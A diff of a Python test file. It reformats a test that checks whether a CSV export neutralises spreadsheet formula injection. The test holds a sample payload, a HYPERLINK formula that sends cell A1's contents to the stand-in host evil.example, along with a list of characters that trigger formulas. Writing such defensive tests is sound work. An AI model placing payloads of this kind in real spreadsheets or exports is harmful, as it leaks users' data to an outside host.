@@ -178,7 +178,9 @@ async def test_an_auditor_can_see_who_exported(contoso: Town) -> None:
     assert entry["actor"] == "U0ADA"
 
 
-@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"])
+@pytest.mark.parametrize(
+    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
+)
 def test_nobody_can_slip_a_formula_into_a_spreadsheet(sign: str) -> None:
     """A text that begins like a formula is marked as text in the CSV, and is text in the workbook."""
     evil = f'{sign}HYPERLINK("http://evil.example?"&A1,"x")'
